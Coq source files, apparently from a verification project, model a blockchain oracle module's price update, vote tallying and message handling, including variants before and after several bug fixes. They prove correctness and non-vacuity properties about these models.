  exists p_ex, (st_one DEC_LIMIT []), 4.
  split; [intros v [<-|[]]; simpl; lia|]. split; [vm_compute; reflexivity|].
  split; [apply quorum_b_iff; vm_compute; reflexivity|]. split; vm_compute; reflexivity.
Qed.

(** a VoteThreshold far above 1 still panics in MulInt64 — but Params.Validate rejects it since 662a06f,
    on genesis import and on every MsgEditOracleParams *)
Theorem threshold_panics_only_for_rejected_params :
  exists p st h, wf st /\ params_valid p = false /\ end_block true p st h = Panic.
Proof.
  exists (mkParams 1 DEC_LIMIT 1 10 0),
         (mkState [mkVal 0 true 2] 100 2000000 1000000 [0%nat] [mkAVote 0 [(0%nat, five)]] []), 4.
  split; [intros v [<-|[]]; simpl; lia|]. split; vm_compute; reflexivity.
Qed.

(** the variants with all repairs selected are the current model *)
Lemma update_gen_current fx p st h : update_gen fx true true p st h = update fx p st h.
Proof. reflexivity. Qed.
Lemma end_block_gen_current fx p st h : end_block_gen fx true true p st h = end_block fx p st h.
Proof. reflexivity. Qed.

(* ---------------------------------------------------------------- non-vacuity *)

(** three validators of power 1, 2, 3 voting 3.0, 1.0, 2.0 on pair 0; validator 3 is unbonded and
    votes 9.0; pair 1 is voted but not whitelisted; an old rate of pair 2 is at its expiry height *)
Definition one : Z := 1000000000000000000.
Definition st_ex : state :=
  mkState [mkVal 2 true 3; mkVal 1 true 2; mkVal 0 true 1; mkVal 3 false 7] 100 6000000 1000000 [0%nat; 2%nat]
          [mkAVote 0 [(0%nat, 3 * one); (1%nat, one)]; mkAVote 1 [(0%nat, one)]; mkAVote 2 [(0%nat, 2 * one); (2%nat, 0)];
           mkAVote 3 [(0%nat, 9 * one)]]
          [mkRate 2 one 0; mkRate 0 one 3].

Example ex_wf : wf st_ex.
Proof. intros v [<-|[<-|[<-|[<-|[]]]]]; simpl; lia. Qed.
Example ex_domain : domain p_ex st_ex 10 = true.
Proof. vm_compute. reflexivity. Qed.
Example ex_quorum : quorum p_ex st_ex 0%nat.
Proof. apply quorum_b_iff. vm_compute. reflexivity. Qed.
Example ex_outcome : end_block true p_ex st_ex 10 = Done [mkRate 0 (2 * one) 10] [(0%nat, 2 * one)].
Proof. vm_compute. reflexivity. Qed.
Example ex_votes_nonneg_positive : nonneg (pair_votes st_ex 0) /\ 0 < total_power (pair_votes st_ex 0).
Proof. split; [apply pair_votes_nonneg, ex_wf | vm_compute; reflexivity]. Qed.
Example ex_sort_invariant_nonvacuous :
  exists l l', Permutation l l' /\ sorted l /\ sorted l' /\ nonneg l /\ l <> l' /\ 0 < total_power l.
Proof.
  exists [mkPV one 0 1; mkPV one 1 2; mkPV (2 * one) 2 3], [mkPV one 1 2; mkPV one 0 1; mkPV (2 * one) 2 3].
  split; [apply perm_swap|]. unfold one.
  split; [simpl; repeat split; intros w Hw; repeat (destruct Hw as [<-|Hw]; [simpl; lia|]); destruct Hw|].
  split; [simpl; repeat split; intros w Hw; repeat (destruct Hw as [<-|Hw]; [simpl; lia|]); destruct Hw|].
  split; [intros v Hv; repeat (destruct Hv as [<-|Hv]; [simpl; lia|]); destruct Hv|].
  split; [discriminate | reflexivity].
Qed.
Example ex_strip_changes_store : votes (strip st_ex) <> votes st_ex.
Proof. vm_compute. discriminate. Qed.
Example ex_expiry_nonvacuous :
  no_wrap p_ex (mkRate 2 one 0) /\
  run p_ex [mkRate 2 one 0] 8 [mkBlockIn [] 100 0 1000000 [2%nat] []; mkBlockIn [] 100 0 1000000 [2%nat] []] = Some [mkRate 2 one 0] /\
  run p_ex [mkRate 2 one 0] 8 [mkBlockIn [] 100 0 1000000 [2%nat] []; mkBlockIn [] 100 0 1000000 [2%nat] []; mkBlockIn [] 100 0 1000000 [2%nat] []] = Some [].
Proof. split; [unfold no_wrap; simpl; lia|]. split; vm_compute; reflexivity. Qed.

(* ---------------------------------------------------------------- the extracted code configuration *)

Lemma cfg_ok_variant c : cfg_ok c = true -> variant_of c = Some (true, true, true) /\ validate_ok c = true.
Proof.
  unfold cfg_ok. destruct (variant_of c) as [[[[|] [|]] [|]]|]; try discriminate.
  destruct (dup_variant c) as [[|]|]; try discriminate. intro H.
  apply andb_true_iff in H as [H _]. split; [reflexivity | exact H].
Qed.
Lemma cfg_ok_voter c : cfg_ok c = true -> voter_canonical c = true /\ dup_variant c = Some true.
Proof.
  unfold cfg_ok. destruct (variant_of c) as [[[[|] [|]] [|]]|]; try discriminate.
  destruct (dup_variant c) as [[|]|]; try discriminate. intro H.
  apply andb_true_iff in H as [_ H]. split; [exact H | reflexivity].
Qed.

(** for a configuration accepted by [cfg_ok] the model denoted by it is the one all theorems are about *)
Lemma end_block_cfg_ok c p st h : cfg_ok c = true -> end_block_cfg c p st h = Some (end_block true p st h).
Proof. intro H. unfold end_block_cfg. destruct (cfg_ok_variant c H) as [-> _]. reflexivity. Qed.

Theorem holds_for_cfg c : cfg_ok c = true ->
  forall p st h, wf st -> exists o, end_block_cfg c p st h = Some o /\ P p st h o.
Proof.
  intros Hc p st h Hw. exists (end_block true p st h). split; [apply end_block_cfg_ok; exact Hc | apply end_block_holds; exact Hw].
Qed.

(** the message-level model of the code described by [c]: the median variant, which Voter string the message
    server stores and which duplicate test the vote-string parser applies *)
Definition mhist_obs_cfg (c : code_cfg) (p : params) (s : mstate) (xs : list (henv * mstep)) : option (list (henv * mstep * mobs)) :=
  match variant_of c, dup_variant c with
  | Some (fx, true, true), Some dc => Some (mhist_obs (voter_canonical c) dc fx p s xs)
  | _, _ => None
  end.

Theorem msg_holds_for_cfg c : cfg_ok c = true ->
  forall p xs, Forall (fun ex => wf_env (fst ex)) xs -> forall s, canonical_store s ->
  exists o, mhist_obs_cfg c p s xs = Some o /\
            P_mhist p (ms_rates s) (map to_avote (ms_votes s)) (map to_prevote (ms_prevotes s)) o.
Proof.
  intros Hc p xs Hw s Hs. exists (mhist_obs true true true p s xs). split; [|apply mhist_holds; assumption].
  unfold mhist_obs_cfg. destruct (cfg_ok_variant c Hc) as [-> _]. destruct (cfg_ok_voter c Hc) as [-> ->]. reflexivity.
Qed.
