(** C10 — executable model of the oracle price update at the end of a vote period
    (x/oracle/abci.go EndBlocker, keeper/update_exchange_rates.go, keeper/ballot.go,
    types/ballot.go, keeper/keeper.go SetPrice).  Exact LegacyDec arithmetic on raw integers
    (value * 10^18, Nib.Lib.Dec).  No proofs in this file.

    [fx] selects the code variant of the median loop: [true] = current tree (commit d9ae51e: a vote of zero power can
    never be returned by the weighted-median loop), [false] = the tree before that fix. *)
From Coq Require Import ZArith List Bool Arith.
Import ListNotations.
Require Import Nib.Lib.Dec.
Local Open Scope Z_scope.

(** LegacyDec.IsInValidRange: |raw| <= 2^256 * 10^18 - 1; Add/Sub/Mul/MulInt64 panic outside. *)
Definition DEC_LIMIT : Z := 2 ^ 256 * PREC - 1.
Definition in_range (x : Z) : bool := Z.abs x <=? DEC_LIMIT.
Definition UINT64 : Z := 2 ^ 64.

Record params := mkParams {
  p_vote_period : Z;      (* uint64 > 0 *)
  p_threshold   : Z;      (* VoteThreshold, raw Dec *)
  p_min_voters  : Z;      (* uint64 *)
  p_expiration  : Z;      (* ExpirationBlocks, uint64 *)
  p_reward_band : Z       (* RewardBand, raw Dec *)
}.

(** one entry of the staking power store, in iteration order *)
Record valinfo := mkVal { v_id : nat; v_bonded : bool; v_power : Z }.
(** one entry of the Votes store: voter and its (pair, rate) tuples *)
Record avote := mkAVote { a_voter : nat; a_tuples : list (nat * Z) }.
(** types.ExchangeRateVote *)
Record pvote := mkPV { pv_rate : Z; pv_voter : nat; pv_power : Z }.
(** ExchangeRates store entry *)
Record rate_entry := mkRate { r_pair : nat; r_rate : Z; r_created : Z }.

Record state := mkState {
  validators     : list valinfo;   (* ValidatorsPowerStoreIterator order *)
  max_validators : nat;
  bonded_tokens  : Z;              (* StakingKeeper.TotalBondedTokens *)
  power_reduction: Z;
  whitelist      : list nat;       (* WhitelistedPairs store *)
  votes          : list avote;     (* Votes store *)
  rates          : list rate_entry (* ExchangeRates store *)
}.

(** newValidatorPerformances: the first MaxValidators *bonded* validators of the power store *)
Fixpoint performances (vs : list valinfo) (fuel : nat) {struct vs} : list (nat * Z) :=
  match vs with
  | [] => []
  | v :: r =>
      match fuel with
      | O => []
      | S f => if v_bonded v then (v_id v, v_power v) :: performances r f else performances r fuel
      end
  end.

Fixpoint perf_power (perfs : list (nat * Z)) (id : nat) : option Z :=
  match perfs with
  | [] => None
  | (i, pw) :: r => if Nat.eqb i id then Some pw else perf_power r id
  end.

(** groupVotesByPair: votes of validators outside the performance map are skipped; a non-positive
    rate (abstain) gets power 0 *)
Definition votes_of (perfs : list (nat * Z)) (a : avote) : list (nat * pvote) :=
  match perf_power perfs (a_voter a) with
  | None => []
  | Some pw => map (fun t => (fst t, mkPV (snd t) (a_voter a) (if 0 <? snd t then pw else 0))) (a_tuples a)
  end.
Definition flat_votes (perfs : list (nat * Z)) (vs : list avote) : list (nat * pvote) :=
  flat_map (votes_of perfs) vs.
Definition votes_for (p : nat) (flat : list (nat * pvote)) : list pvote :=
  map snd (filter (fun x => Nat.eqb (fst x) p) flat).

(** keys of the pairVotes map in sorted order (omap.SortedMap_Pair) *)
Fixpoint insert_nat (x : nat) (l : list nat) : list nat :=
  match l with
  | [] => [x]
  | y :: r => if Nat.ltb x y then x :: l else if Nat.eqb x y then l else y :: insert_nat x r
  end.
Definition pair_set (l : list nat) : list nat := fold_right insert_nat [] l.

Definition memb (x : nat) (l : list nat) : bool := existsb (Nat.eqb x) l.

(** ExchangeRateVotes.Power / NumValidVoters *)
Definition total_power (vs : list pvote) : Z := fold_right (fun v acc => pv_power v + acc) 0 vs.
Definition num_valid (vs : list pvote) : Z := Z.of_nat (length (filter (fun v => 0 <? pv_rate v) vs)).

(** isPassingVoteThreshold *)
Definition passing (vs : list pvote) (thr minv : Z) : bool :=
  negb (total_power vs =? 0) && (thr <=? total_power vs) && (minv <=? num_valid vs).

(** sdk.TokensToConsensusPower(TotalBondedTokens, PowerReduction) *)
Definition bonded_power (st : state) : Z := bonded_tokens st / power_reduction st.
(** VoteThreshold.MulInt64(totalBondedPower) — panics when out of range — then RoundInt *)
Definition threshold_raw (p : params) (B : Z) : Z := mul_int (p_threshold p) B.
Definition threshold_power (p : params) (B : Z) : Z := round_int (threshold_raw p B).
(** MulInt64 panics outside the Dec range; RoundInt (NewIntFromBigIntMut) panics above 256 bits *)
Definition threshold_ok (p : params) (B : Z) : bool :=
  in_range (threshold_raw p B) && (Z.abs (threshold_power p B) <? 2 ^ 256).

(** sort.Sort by rate (any sort: the result below does not depend on the order of ties) *)
Fixpoint insert_vote (v : pvote) (l : list pvote) : list pvote :=
  match l with
  | [] => [v]
  | w :: r => if pv_rate v <? pv_rate w then v :: l else w :: insert_vote v r
  end.
Definition sort_votes (l : list pvote) : list pvote := fold_right insert_vote [] l.

(** WeightedMedianWithAssertion: first vote whose cumulative power reaches totalPower/2 *)
Fixpoint wmedian_loop (fx : bool) (half acc : Z) (l : list pvote) : option Z :=
  match l with
  | [] => None
  | v :: r =>
      let acc' := acc + pv_power v in
      if (if fx then 0 <? pv_power v else true) && (half <=? acc') then Some (pv_rate v)
      else wmedian_loop fx half acc' r
  end.
Definition wmedian (fx : bool) (vs : list pvote) : Z :=
  match wmedian_loop fx (total_power vs / 2) 0 (sort_votes vs) with
  | Some r => r
  | None => 0
  end.

(** ExchangeRateVotes.StandardDeviation: unweighted, over positive rates, any panic => 0 *)
Definition chk (x : Z) : option Z := if in_range x then Some x else None.
Definition sd_step (median : Z) (acc : option (Z * Z)) (v : pvote) : option (Z * Z) :=
  match acc with
  | None => None
  | Some (sum, n) =>
      if 0 <? pv_rate v then
        match chk (pv_rate v - median) with
        | None => None
        | Some d =>
            match chk (mul d d) with
            | None => None
            | Some sq => match chk (sum + sq) with None => None | Some s => Some (s, n + 1) end
            end
        end
      else Some (sum, n)
  end.
Definition stddev (vs : list pvote) (median : Z) : Z :=
  match fold_left (sd_step median) vs (Some (0, 0)) with
  | None => 0
  | Some (sum, n) => if n =? 0 then 0 else sqrt_dec (Z.quot sum n)
  end.

(** Tally: rewardSpread = max(median * (band/2), stddev) *)
Definition reward_spread (band median : Z) (vs : list pvote) : Z :=
  let s := mul median (quo_int band 2) in
  let sd := stddev vs median in
  if s <? sd then sd else s.
(** Tally, current code (commit 66a0ce3): isInsideSpread = rate >= median - spread && rate - spread <= median.
    It panics ("Int overflow") iff median*(band/2) or median - spread leaves the Dec range, or rate - spread
    does for a vote that passed the first comparison *)
Definition tally_ok (band : Z) (vs : list pvote) (median : Z) : bool :=
  let s := reward_spread band median vs in
  in_range (mul median (quo_int band 2)) &&
  in_range (median - s) &&
  forallb (fun v => negb (median - s <=? pv_rate v) || in_range (pv_rate v - s)) vs.
(** before 66a0ce3: rate <= median.Add(spread); the median's own vote always reaches the Add *)
Definition tally_ok_add (band : Z) (vs : list pvote) (median : Z) : bool :=
  in_range (mul median (quo_int band 2)) &&
  in_range (median - reward_spread band median vs) &&
  in_range (median + reward_spread band median vs).

(** clearExchangeRates, current code (commit 48f939b): height >= created && height - created >= ExpirationBlocks *)
Definition expired (p : params) (r : rate_entry) (h : Z) : bool :=
  (r_created r <=? h) && (p_expiration p <=? h - r_created r).
(** before 48f939b: created + ExpirationBlocks <= height with a wrapping uint64 addition *)
Definition expired_wrap (p : params) (r : rate_entry) (h : Z) : bool :=
  (r_created r + p_expiration p) mod UINT64 <=? h.

Inductive outcome :=
| Panic
| Done (rs : list rate_entry) (events : list (nat * Z)).

Definition eligible (st : state) : list (nat * Z) := performances (validators st) (max_validators st).
Definition pair_votes (st : state) (pr : nat) : list pvote :=
  votes_for pr (flat_votes (eligible st) (votes st)).
Definition voted_pairs (st : state) : list nat := pair_set (map fst (flat_votes (eligible st) (votes st))).

(** removeInvalidVotes *)
Definition valid_pairs (p : params) (st : state) : list nat :=
  let thr := threshold_power p (bonded_power st) in
  filter (fun pr => memb pr (whitelist st) && passing (pair_votes st pr) thr (p_min_voters p))
         (voted_pairs st).

(** UpdateExchangeRates, as far as prices are concerned *)
Definition update (fx : bool) (p : params) (st : state) (h : Z) : outcome :=
  let pairs := voted_pairs st in
  if (match pairs with [] => false | _ => true end) && negb (threshold_ok p (bonded_power st))
  then Panic
  else
    let valid := valid_pairs p st in
    let kept := filter (fun r => negb (memb (r_pair r) valid || expired p r h)) (rates st) in
    let meds := map (fun pr => (pr, wmedian fx (pair_votes st pr))) valid in
    if forallb (fun pm => tally_ok (p_reward_band p) (pair_votes st (fst pm)) (snd pm)) meds
    then Done (kept ++ map (fun pm => mkRate (fst pm) (snd pm) h) meds) meds
    else Panic.

(** types.IsPeriodLastBlock *)
Definition is_period_last (h vp : Z) : bool := (h + 1) mod vp =? 0.

(** oracle.EndBlocker, price part *)
Definition end_block (fx : bool) (p : params) (st : state) (h : Z) : outcome :=
  if is_period_last h (p_vote_period p) then update fx p st h else Done (rates st) [].

(** the same with every repaired spot selectable: [fx] d9ae51e (median skips zero-power votes),
    [fe] 48f939b (expiry without wrap), [ft] 66a0ce3 (Tally without the overflowing Add);
    [update fx = update_gen fx true true] *)
Definition update_gen (fx fe ft : bool) (p : params) (st : state) (h : Z) : outcome :=
  let pairs := voted_pairs st in
  if (match pairs with [] => false | _ => true end) && negb (threshold_ok p (bonded_power st))
  then Panic
  else
    let valid := valid_pairs p st in
    let kept := filter (fun r => negb (memb (r_pair r) valid || (if fe then expired p r h else expired_wrap p r h))) (rates st) in
    let meds := map (fun pr => (pr, wmedian fx (pair_votes st pr))) valid in
    if forallb (fun pm => (if ft then tally_ok else tally_ok_add) (p_reward_band p) (pair_votes st (fst pm)) (snd pm)) meds
    then Done (kept ++ map (fun pm => mkRate (fst pm) (snd pm) h) meds) meds
    else Panic.
Definition end_block_gen (fx fe ft : bool) (p : params) (st : state) (h : Z) : outcome :=
  if is_period_last h (p_vote_period p) then update_gen fx fe ft p st h else Done (rates st) [].

(* ================================================================ histories of vote periods *)

(** The oracle stores that live across blocks: ExchangeRates, Votes (one aggregate vote per voter,
    kept sorted by voter id = store order), Prevotes (voter, submit block). *)
Record hstate := mkHS { hs_rates : list rate_entry; hs_votes : list avote; hs_prevotes : list (nat * Z) }.

(** what the EndBlocker of one step reads from other modules: staking view and whitelist
    (params.Whitelist = WhitelistedPairs store, so refreshWhitelist is the identity) *)
Record henv := mkHEnv {
  he_validators : list valinfo; he_maxv : nat; he_btok : Z; he_pr : Z; he_whitelist : list nat }.

(** one step: votes / prevotes submitted since the previous step (Insert overwrites per voter), then
    EndBlocker at height [hp_h] *)
Record hstep := mkHStep { hp_votes : list avote; hp_prevotes : list (nat * Z); hp_h : Z }.

Fixpoint put_vote (a : avote) (l : list avote) : list avote :=
  match l with
  | [] => [a]
  | b :: r => if Nat.ltb (a_voter a) (a_voter b) then a :: l
              else if Nat.eqb (a_voter a) (a_voter b) then a :: r
              else b :: put_vote a r
  end.
Definition put_votes (l : list avote) (new : list avote) : list avote := fold_left (fun acc a => put_vote a acc) new l.

Fixpoint put_prevote (x : nat * Z) (l : list (nat * Z)) : list (nat * Z) :=
  match l with
  | [] => [x]
  | y :: r => if Nat.ltb (fst x) (fst y) then x :: l
              else if Nat.eqb (fst x) (fst y) then x :: r
              else y :: put_prevote x r
  end.
Definition put_prevotes (l new : list (nat * Z)) : list (nat * Z) := fold_left (fun acc x => put_prevote x acc) new l.

Definition env_state (e : henv) (vs : list avote) (rs : list rate_entry) : state :=
  mkState (he_validators e) (he_maxv e) (he_btok e) (he_pr e) (he_whitelist e) vs rs.

(** clearVotesAndPrevotes at a period end: every vote is deleted; a prevote is deleted iff
    height >= submit block + VotePeriod *)
Definition keep_prevote (p : params) (h : Z) (x : nat * Z) : bool := h <? snd x + p_vote_period p.

(** None = EndBlocker panicked *)
Definition hist_step (fx : bool) (p : params) (e : henv) (s : hstate) (x : hstep) : option (hstate * list (nat * Z)) :=
  let vs := put_votes (hs_votes s) (hp_votes x) in
  let pvs := put_prevotes (hs_prevotes s) (hp_prevotes x) in
  match end_block fx p (env_state e vs (hs_rates s)) (hp_h x) with
  | Panic => None
  | Done rs evs =>
      if is_period_last (hp_h x) (p_vote_period p)
      then Some (mkHS rs [] (filter (keep_prevote p (hp_h x)) pvs), evs)
      else Some (mkHS rs vs pvs, evs)
  end.

(** events published by each step of a history (stops at a panic); every step comes with the staking
    view / whitelist read right before its EndBlocker (validators may be slashed, jailed, unbonded or join
    between steps) *)
Fixpoint hist_events (fx : bool) (p : params) (s : hstate) (xs : list (henv * hstep)) : list (list (nat * Z)) :=
  match xs with
  | [] => []
  | (e, x) :: r => match hist_step fx p e s x with
                   | None => []
                   | Some (s', evs) => evs :: hist_events fx p s' r
                   end
  end.

(* ================================================================ message level *)

(** Votes enter the stores through the message server (keeper/msg_server.go AggregateExchangeRatePrevote /
    AggregateExchangeRateVote / DelegateFeedConsent, after ValidateBasic), with the validator and feeder written
    as STRINGS in the messages.  A bech32 string has exactly two accepted spellings — all lower-case (what
    ValAddress.String() / AccAddress.String() produce: the canonical one) and all upper-case; everything else
    (mixed case, wrong checksum, wrong prefix) is rejected by *AddressFromBech32.
    [as_id] = the account / operator the string stands for, [as_sp] = how it is spelled. *)
Inductive spelling := SpLower | SpUpper | SpBad.
Record astr := mkAStr { as_id : nat; as_sp : spelling }.

(** sdk.ValAddressFromBech32 / sdk.AccAddressFromBech32: the identity map "message string -> validator" *)
Definition decode (s : astr) : option nat := match as_sp s with SpBad => None | _ => Some (as_id s) end.
(** ValAddress.String() *)
Definition canon (id : nat) : astr := mkAStr id SpLower.

Definition spelling_eqb (a b : spelling) : bool :=
  match a, b with SpLower, SpLower | SpUpper, SpUpper | SpBad, SpBad => true | _, _ => false end.
Definition astr_eqb (a b : astr) : bool := Nat.eqb (as_id a) (as_id b) && spelling_eqb (as_sp a) (as_sp b).

(** GetAggregateVoteHash(salt, exchangeRatesStr, voter.String()), symbolically (sha256 taken as injective on
    its three arguments): ids of the salt and of the exchange-rate string, and the validator STRING the
    committer hashed over *)
Record chash := mkHash { ch_salt : nat; ch_rates : nat; ch_val : astr }.
Definition chash_eqb (a b : chash) : bool :=
  Nat.eqb (ch_salt a) (ch_salt b) && Nat.eqb (ch_rates a) (ch_rates b) && astr_eqb (ch_val a) (ch_val b).

(** store entries as the message server writes them: key = decoded operator address, value carries the
    [Voter] STRING (types.AggregateExchangeRateVote.Voter / AggregateExchangeRatePrevote.Voter) *)
Record svote := mkSV { sv_key : nat; sv_voter : astr; sv_tuples : list (nat * Z) }.
Record sprev := mkSPrev { sp_key : nat; sp_voter : astr; sp_hash : chash; sp_submit : Z }.
Record mstate := mkMS {
  ms_rates : list rate_entry; ms_votes : list svote; ms_prevotes : list sprev;
  ms_feeders : list (nat * nat) (* FeederDelegations: operator -> delegate *) }.

(** messages.  [*_bonded] / [dm_isval] are answers of the staking module at delivery (StakingKeeper.Validator(valAddr)
    exists and IsBonded / exists), inputs like the rest of the staking view *)
Record pmsg := mkPMsg { pm_validator : astr; pm_feeder : astr; pm_hash : chash; pm_bonded : bool }.
Record vmsg := mkVMsg { vm_validator : astr; vm_feeder : astr; vm_salt : nat; vm_rates : nat;
                        vm_tuples : list (nat * Z) (* what the exchange-rate string [vm_rates] spells *);
                        vm_bonded : bool }.
Record dmsg := mkDMsg { dm_operator : astr; dm_delegate : astr; dm_isval : bool }.
Inductive omsg := MPrevote (m : pmsg) | MVote (m : vmsg) | MDelegate (m : dmsg).

(** collections keyed by operator address, kept sorted by key (= store order); Insert overwrites *)
Fixpoint put_svote (a : svote) (l : list svote) : list svote :=
  match l with
  | [] => [a]
  | b :: r => if Nat.ltb (sv_key a) (sv_key b) then a :: l
              else if Nat.eqb (sv_key a) (sv_key b) then a :: r
              else b :: put_svote a r
  end.
Fixpoint put_sprev (a : sprev) (l : list sprev) : list sprev :=
  match l with
  | [] => [a]
  | b :: r => if Nat.ltb (sp_key a) (sp_key b) then a :: l
              else if Nat.eqb (sp_key a) (sp_key b) then a :: r
              else b :: put_sprev a r
  end.
Definition del_sprev (v : nat) (l : list sprev) : list sprev := filter (fun b => negb (Nat.eqb (sp_key b) v)) l.
Fixpoint find_sprev (v : nat) (l : list sprev) : option sprev :=
  match l with
  | [] => None
  | b :: r => if Nat.eqb (sp_key b) v then Some b else find_sprev v r
  end.
Fixpoint put_feeder (x : nat * nat) (l : list (nat * nat)) : list (nat * nat) :=
  match l with
  | [] => [x]
  | y :: r => if Nat.ltb (fst x) (fst y) then x :: l
              else if Nat.eqb (fst x) (fst y) then x :: r
              else y :: put_feeder x r
  end.
Fixpoint find_feeder (v : nat) (l : list (nat * nat)) : option nat :=
  match l with
  | [] => None
  | y :: r => if Nat.eqb (fst y) v then Some (snd y) else find_feeder v r
  end.

(** Keeper.ValidateFeeder, first half: the validator's own account, or the account it delegated to *)
Definition feeder_ok (fd : list (nat * nat)) (v f : nat) : bool :=
  Nat.eqb f v || match find_feeder v fd with Some d => Nat.eqb d f | None => false end.

(** the Voter string written into the store.  [fc = true]: the current code, valAddr.String() — the CANONICAL
    spelling of the decoded address (types.NewAggregateExchangeRateVote(tuples, valAddr));
    [fc = false]: the raw [msg.Validator] string *)
Definition voter_string (fc : bool) (raw : astr) (v : nat) : astr := if fc then canon v else raw.

(** MsgAggregateExchangeRateVote.ValidateBasic + ParseExchangeRateTuples (NewExchangeRateTuplesFromString): at least one
    tuple, no pair named twice ANYWHERE in the string, every rate a LegacyDec of at most 255+60 bits *)
Fixpoint nodup_pairs (l : list (nat * Z)) : bool :=
  match l with
  | [] => true
  | t :: r => negb (existsb (fun u => Nat.eqb (fst u) (fst t)) r) && nodup_pairs r
  end.
(** the duplicate test that only compares each tuple's pair with the directly preceding one *)
Fixpoint no_adjacent_dup (l : list (nat * Z)) : bool :=
  match l with
  | t :: ((u :: _) as r) => negb (Nat.eqb (fst t) (fst u)) && no_adjacent_dup r
  | _ => true
  end.
Definition RATE_BITS : Z := 2 ^ 315.
(** [dc = true]: the current NewExchangeRateTuplesFromString — a set of ALL pairs seen so far, a repeated pair anywhere in
    the string is a parse error; [dc = false]: only a pair equal to the PRECEDING one is refused *)
Definition tuples_ok_gen (dc : bool) (ts : list (nat * Z)) : bool :=
  (match ts with [] => false | _ => true end) && (if dc then nodup_pairs ts else no_adjacent_dup ts) &&
  forallb (fun t => Z.abs (snd t) <? RATE_BITS) ts.
Definition tuples_ok : list (nat * Z) -> bool := tuples_ok_gen true.

Definition deliver_prevote (fc : bool) (h : Z) (s : mstate) (m : pmsg) : mstate * bool :=
  match decode (pm_validator m), decode (pm_feeder m) with
  | Some v, Some f =>
      if feeder_ok (ms_feeders s) v f && pm_bonded m
      then (mkMS (ms_rates s) (ms_votes s)
                 (put_sprev (mkSPrev v (voter_string fc (pm_validator m) v) (pm_hash m) h) (ms_prevotes s))
                 (ms_feeders s), true)
      else (s, false)
  | _, _ => (s, false)
  end.

(** the reveal: a prevote of the same validator from the immediately preceding vote period whose hash is the
    hash of (salt, exchange-rate string, valAddr.String()); every pair whitelisted; then Votes.Insert and
    Prevotes.Delete *)
Definition deliver_vote (fc dc : bool) (p : params) (wl : list nat) (h : Z) (s : mstate) (m : vmsg) : mstate * bool :=
  match decode (vm_validator m), decode (vm_feeder m) with
  | Some v, Some f =>
      match find_sprev v (ms_prevotes s) with
      | Some pv =>
          if feeder_ok (ms_feeders s) v f && vm_bonded m &&
             (h / p_vote_period p - sp_submit pv / p_vote_period p =? 1) &&
             tuples_ok_gen dc (vm_tuples m) && forallb (fun t => memb (fst t) wl) (vm_tuples m) &&
             chash_eqb (sp_hash pv) (mkHash (vm_salt m) (vm_rates m) (canon v))
          then (mkMS (ms_rates s)
                     (put_svote (mkSV v (voter_string fc (vm_validator m) v) (vm_tuples m)) (ms_votes s))
                     (del_sprev v (ms_prevotes s)) (ms_feeders s), true)
          else (s, false)
      | None => (s, false)
      end
  | _, _ => (s, false)
  end.

Definition deliver_delegate (s : mstate) (m : dmsg) : mstate * bool :=
  match decode (dm_operator m), decode (dm_delegate m) with
  | Some v, Some d =>
      if dm_isval m
      then (mkMS (ms_rates s) (ms_votes s) (ms_prevotes s) (put_feeder (v, d) (ms_feeders s)), true)
      else (s, false)
  | _, _ => (s, false)
  end.

Definition deliver (fc dc : bool) (p : params) (wl : list nat) (h : Z) (s : mstate) (m : omsg) : mstate * bool :=
  match m with
  | MPrevote m => deliver_prevote fc h s m
  | MVote m => deliver_vote fc dc p wl h s m
  | MDelegate m => deliver_delegate s m
  end.

(** the messages of one block in order; the list of accept flags *)
Fixpoint deliver_all (fc dc : bool) (p : params) (wl : list nat) (h : Z) (s : mstate) (ms : list omsg) : mstate * list bool :=
  match ms with
  | [] => (s, [])
  | m :: r => let (s1, a) := deliver fc dc p wl h s m in
              let (s2, acc) := deliver_all fc dc p wl h s1 r in (s2, a :: acc)
  end.

(** groupVotesByPair looks the voter up with [validatorPerformances[aggregateVote.Voter]]: a map keyed by
    operator.String() — the canonical strings of the eligible validators — indexed by the STORED string.  A stored
    vote whose Voter string is not canonical is therefore never found; a canonical one is found iff the validator
    it spells is eligible. *)
Definition votes_seen (l : list svote) : list avote :=
  flat_map (fun sv => match as_sp (sv_voter sv) with
                      | SpLower => [mkAVote (as_id (sv_voter sv)) (sv_tuples sv)]
                      | _ => []
                      end) l.

(** the same store read by VALIDATOR IDENTITY (the key) *)
Definition to_avote (sv : svote) : avote := mkAVote (sv_key sv) (sv_tuples sv).
Definition to_prevote (sp : sprev) : nat * Z := (sp_key sp, sp_submit sp).

(** one block: messages, then EndBlocker at height [mp_h] *)
Record mstep := mkMStep { mp_msgs : list omsg; mp_h : Z }.

Definition keep_sprev (p : params) (h : Z) (x : sprev) : bool := h <? sp_submit x + p_vote_period p.

Definition mhist_step (fc dc fx : bool) (p : params) (e : henv) (s : mstate) (x : mstep)
  : list bool * option (mstate * list (nat * Z)) :=
  let (s1, acc) := deliver_all fc dc p (he_whitelist e) (mp_h x) s (mp_msgs x) in
  match end_block fx p (env_state e (votes_seen (ms_votes s1)) (ms_rates s1)) (mp_h x) with
  | Panic => (acc, None)
  | Done rs evs =>
      if is_period_last (mp_h x) (p_vote_period p)
      then (acc, Some (mkMS rs [] (filter (keep_sprev p (mp_h x)) (ms_prevotes s1)) (ms_feeders s1), evs))
      else (acc, Some (mkMS rs (ms_votes s1) (ms_prevotes s1) (ms_feeders s1), evs))
  end.

(** accept flags and published events of each block of a message-level history (stops after a panic) *)
Fixpoint mhist_events (fc dc fx : bool) (p : params) (s : mstate) (xs : list (henv * mstep))
  : list (list bool * list (nat * Z)) :=
  match xs with
  | [] => []
  | (e, x) :: r => match mhist_step fc dc fx p e s x with
                   | (acc, None) => [(acc, [])]
                   | (acc, Some (s', evs)) => (acc, evs) :: mhist_events fc dc fx p s' r
                   end
  end.
