(** C10 — votes of validators outside the eligible set (unbonded, beyond MaxValidators, strangers),
    votes for non-whitelisted pairs and abstentions (non-positive rates) have no influence on the
    outcome of the price update: deleting all of them from the Votes store leaves it unchanged. *)
From Coq Require Import ZArith List Bool Arith Lia Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.ProofsMedian Nib.C10.ProofsUpdate Nib.C10.ProofsPanic.
Local Open Scope Z_scope.
Local Arguments Z.mul : simpl never.
Local Arguments Z.add : simpl never.
Local Arguments Z.div : simpl never.

Definition relevant_tuple (st : state) (t : nat * Z) : bool := memb (fst t) (whitelist st) && (0 <? snd t).
Definition strip_vote (st : state) (a : avote) : avote :=
  mkAVote (a_voter a) (filter (relevant_tuple st) (a_tuples a)).
Definition is_eligible (st : state) (a : avote) : bool :=
  match perf_power (eligible st) (a_voter a) with Some _ => true | None => false end.

